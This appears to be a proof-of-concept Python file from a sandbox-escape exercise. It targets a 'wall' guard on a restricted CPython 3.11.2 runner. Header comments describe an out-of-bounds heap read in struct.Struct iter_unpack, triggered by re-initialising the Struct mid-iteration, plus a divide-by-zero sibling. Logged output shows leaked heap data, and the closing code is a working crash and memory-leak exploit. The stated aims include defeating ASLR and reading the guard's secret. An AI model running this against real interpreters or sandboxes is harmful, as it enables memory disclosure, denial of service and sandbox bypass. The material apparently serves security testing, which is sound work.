# family: wall (memory: struct.Struct re-initialised while its iter_unpack iterator runs reads past the buffer)   goal: crash   interpreter: /usr/bin/python3
# (fourteenth wall round, ok_01, with a longer format: the read it makes past an 8-byte
# buffer, 1 GiB here instead of 3,000,000 bytes, runs off the mapped heap, SIGSEGV; the
# round's read of 3,000,000 bytes is the same primitive, shorter). The wall: Struct is
# initialised once (struct_init): the second __init__ raises RuntimeError.
# ok_01: NEW MEMORY-SAFETY PRIMITIVE, HOOK IN PLACE: struct.Struct re-initialised while
#        its iter_unpack iterator runs -> out-of-bounds READ of any length past a buffer
# |
# Family: memory safety of CPython 3.11.2, Modules/_struct.c, unpack_iterator. The wall
#   guards Struct.pack/pack_into (struct_pack) and refuses __init__ only while a pack of
#   the same object runs (struct_init, keyed by id). unpackiter_iternext reads
#   self->so->s_size bytes at buf + index with no re-check against buf.len (only an
#   assert, compiled out): s_iter_unpack checked len(buf) % s_size == 0 at creation.
#   Struct.__init__ may be called again at any time in 3.11 (moved to __new__ upstream
#   later), so re-initialising with "3000000s" makes next(it) copy 3,000,000 bytes from
#   buf into a bytes object. No import beyond `import struct` (allowed), no audit event.
# Mechanism: s = Struct("8s"); it = s.iter_unpack(8 bytes); s.__init__("3000000s");
#   next(it)[0] is the 8 bytes and the heap (and whatever is mapped) after them. The
#   length and the base buffer (any buffer: bytes, bytearray, memoryview, array) are
#   the program's choice; reading past the mapped end is SIGSEGV (a crash on demand).
#   Sibling (near/n1): s.__init__("") gives s_size 0 and
#   operator.length_hint(it) divides by it: SIGFPE.
# Goal: task 1 (a memory-safety primitive reachable with the wall on): a relative read
#   primitive of the runner's heap: pointers (ASLR of heap and libraries), freed data
#   (site's "/home/sandbox/.local", a copy derived from $HOME the wall says it drops,
#   in run 2), library data. It is a READ only: no write was built from it in the round
#   (see SUMMARY). It cannot forge the proof (a write to the page is needed), but it
#   could read the wall's 16-byte secret if its bytes object lay after the buffer (not tried).
# Plain python3 (the image's 3.11.2): same read, 3,000,000 bytes.
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r14; build/sb-run --full FILE), 2 of 2 runs:
#   status: ok   exit_code: 0
#   duration 23 ms, cpu 17 ms, memory peak 19408 KiB, fresh container
#   --- stdout (467 bytes)
#   read 3000000 bytes from an 8-byte buffer: b'AAAAAAAA' then 0000000000000000000000000000000000000000000000000500000000000000
#     safe-exec x0 first at +-1: None
#     entrypoint x0 first at +-1: None
#     SAFEEXEC x0 first at +-1: None
#     wall_proof x0 first at +-1: None
#     /home/sandbox x0 first at +-1: None
#     HOSTNAME x1 first at +1696955: b'\x00\x00\x00\x00\x00NO_HOSTNAME_OR_SERVICE_SPECIFIED\x00\x00\x00\x00\x00\x00\x00\x00MIS'
#     pointer-like words in the first 4 KiB: 90
#   --- stderr (0 bytes)
#   (run 2: same, with "/home/sandbox x1 first at +79584: b'...\x00/home/sandbox/.local\x00...'")
#
import struct
s = struct.Struct("8s")
it = s.iter_unpack(b"A" * 8)      # iterator over an 8-byte buffer, one 8-byte item
s.__init__("%ds" % (1 << 30))     # the same Struct re-initialised: s_size = 1 GiB
r = next(it)[0]                   # s_unpack_internal copies s_size bytes from buf + 0
print("read", len(r), "bytes from an 8-byte buffer")
